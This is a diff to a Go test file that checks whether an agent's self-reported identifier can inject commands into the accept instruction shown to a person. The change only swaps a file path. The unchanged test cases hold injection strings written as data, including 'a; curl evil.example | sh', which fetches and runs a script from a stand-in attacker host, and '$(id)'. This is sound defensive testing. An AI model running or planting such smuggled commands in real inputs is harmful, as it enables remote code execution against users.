@@ -31,7 +31,7 @@ func TestAcceptHyphen(t *testing.T) {
 // What an agent calls itself cannot make a command of its own out of what a person is told to type.
 func TestHowToAcceptIsHarmless(t *testing.T) {
 	for _, c := range []struct{ file, id, want string }{
-		{"/home/ada/known.json", "urn:acme:planner@2", "/home/ada/known.json urn:acme:planner@2"},
+		{"keys/known-2.json", "urn:acme:planner@2", "keys/known-2.json urn:acme:planner@2"},
 		{"my known.json", "planner", "FILE planner"},
 		{"known.json", "a; curl evil.example | sh", "known.json AGENT_ID"},
 		{"known.json", "$(id)", "known.json AGENT_ID"},
